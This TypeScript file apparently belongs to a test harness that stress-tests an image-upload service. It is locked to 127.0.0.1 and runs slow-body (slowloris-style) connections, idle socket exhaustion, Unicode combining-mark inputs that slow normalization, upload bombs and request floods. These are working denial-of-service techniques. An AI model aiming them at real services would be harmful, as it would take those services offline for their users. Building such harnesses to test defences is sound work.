import { Agent, request } from 'node:http';
import { connect, type Socket } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import { type Bomb, createBombs } from './siege-bombs.ts';
import { FLOODS, type Flood, SCENES, type Scene } from './siege-scenes.ts';

/**
 * A program that attacks the service at a local origin until it is ended, its parent ends, or a time limit. It prints
 * `attacking` when it has begun.
 */
const LONGEST_SECONDS = 300;
const OWNERS = 3;

const BOMBERS = 12;
const SLOW_BODIES = 200;
const IDLE_SOCKETS = 1_000;
const TEXTS_A_SECOND = 500;
const TEXT_CONNECTIONS = 64;
/** The limit of unanswered requests: with more, this program itself would run out of resources. */
const MAX_UNANSWERED = 1_000;

const scene = [...SCENES, ...FLOODS].find((one) => one === process.argv[2]);
const origin = new URL(process.argv[3] ?? '');
if (scene === undefined || origin.hostname !== '127.0.0.1')
  throw new Error(
    `expected one of ${[...SCENES, ...FLOODS].join(', ')} and an origin at 127.0.0.1; got ${process.argv.slice(2)}`,
  );

process.stdin.on('end', () => process.exit(0)).resume();
setTimeout(() => process.exit(1), LONGEST_SECONDS * 1000);

interface Sent {
  readonly agent: Agent;
  readonly method: 'GET' | 'POST';
  readonly path: string;
  readonly contentType?: string;
  readonly body?: Buffer;
}

/** Resolves on any answer or failure: an attacker ignores both. */
const send = ({ agent, method, path, contentType = 'application/json', body }: Sent): Promise<void> =>
  new Promise((resolve) => {
    const headers = body ? { 'Content-Type': contentType, 'Content-Length': body.length } : {};
    const sending = request(new URL(path, origin), { agent, method, headers });
    sending.on('error', () => resolve());
    sending.on('response', (response) =>
      response
        .on('error', () => resolve())
        .on('close', resolve)
        .resume(),
    );
    sending.end(body);
  });

/** Each client sends its next bomb after each answer. */
async function bombs(): Promise<void> {
  const all = await createBombs();
  let serial = 0;
  const bomber = async (number: number): Promise<void> => {
    const agent = new Agent({ keepAlive: true, maxSockets: 1 });
    for (let turn = number; ; turn += 1) {
      const { contentType, bytes } = all[turn % all.length] as Bomb;
      serial += 1;
      const path = `/images/upload?user_id=attacker-${number % OWNERS}`;
      await send({ agent, method: 'POST', path, contentType, body: bytes(serial) });
      await delay(10); // so that immediate refusals don't turn this into another attack
    }
  };
  for (let number = 0; number < BOMBERS; number += 1) void bomber(number);
}

/** Connections that reconnect when they end, at most twenty times a second each. */
async function keepOpen(count: number, begin: (socket: Socket, number: number) => void): Promise<void> {
  const open = (number: number): Promise<void> =>
    new Promise((resolve) => {
      const socket = connect(Number(origin.port), origin.hostname);
      socket.on('connect', () => begin(socket, number)).on('connect', resolve);
      socket.on('error', () => resolve()).resume();
      socket.on('close', () => setTimeout(open, 50, number));
    });
  for (let number = 0; number < count; number += 1) await open(number);
}

/** Bodies that send a byte per second. */
async function slowBodies(): Promise<void> {
  const open = new Set<Socket>();
  setInterval(() => {
    for (const socket of open) socket.write('x');
  }, 1_000);
  await keepOpen(SLOW_BODIES, (socket, number) => {
    socket.write(
      `POST /images/upload?user_id=attacker-${number % OWNERS} HTTP/1.1\r\nHost: ${origin.host}\r\nContent-Type: image/jpeg\r\nContent-Length: 1000000\r\n\r\n`,
    );
    open.add(socket);
    socket.on('close', () => open.delete(socket));
  });
}

/** One half sends nothing, the other never completes its request. */
const idleSockets = (): Promise<void> =>
  keepOpen(IDLE_SOCKETS, (socket, number) => {
    if (number % 2 === 0) socket.write(`GET /health HTTP/1.1\r\nHost: ${origin.host}\r\nX-Half: `);
  });

/** Combining marks in the worst order for canonical sorting; as long as the longest text, and longer. */
const marks = (count: number): string => `a${'\u0301\u0316'.repeat(count / 2)}`;

async function texts(): Promise<void> {
  const agent = new Agent({ keepAlive: true, maxSockets: TEXT_CONNECTIONS });
  const description = marks(2_000);
  const tags = Array.from({ length: 20 }, (_, index) => `${index}${marks(250)}`);
  const grant = { user_id: 'attacker', content_type: 'image/jpeg', filename: marks(250), description, tags };
  const body = Buffer.from(JSON.stringify(grant));
  const long = encodeURIComponent(marks(9_000));
  const requests: readonly Sent[] = [
    { agent, method: 'POST', path: '/images/upload', body },
    { agent, method: 'GET', path: `/images?user_id=attacker&tag=${long}` },
    {
      agent,
      method: 'POST',
      path: '/images/upload',
      body: Buffer.from(JSON.stringify({ ...grant, tags: [marks(200_000)] })),
    },
    {
      agent,
      method: 'GET',
      path: `/images?user_id=attacker&${tags
        .slice(0, 16)
        .map((tag) => `tag=${encodeURIComponent(tag)}`)
        .join('&')}`,
    },
  ];
  const start = performance.now();
  let sent = 0;
  let unanswered = 0;
  setInterval(() => {
    const due = Math.floor(((performance.now() - start) / 1000) * TEXTS_A_SECOND);
    for (; sent < due; sent += 1) {
      if (unanswered >= MAX_UNANSWERED) continue;
      unanswered += 1;
      void send(requests[sent % requests.length] as Sent).then(() => {
        unanswered -= 1;
      });
    }
  }, 10);
}

/** Each client asks for its next grant after each answer. */
async function grants(): Promise<void> {
  const body = Buffer.from(JSON.stringify({ user_id: 'attacker', content_type: 'image/jpeg' }));
  const client = async (): Promise<void> => {
    const agent = new Agent({ keepAlive: true, maxSockets: 1 });
    for (;;) await send({ agent, method: 'POST', path: '/uploads', body });
  };
  for (let number = 0; number < TEXT_CONNECTIONS; number += 1) void client();
}

const attacks: Record<Scene | Flood, () => Promise<void>> = {
  bombs,
  'slow bodies': slowBodies,
  'idle sockets': idleSockets,
  texts,
  grants,
};
await attacks[scene]();
console.log('attacking');
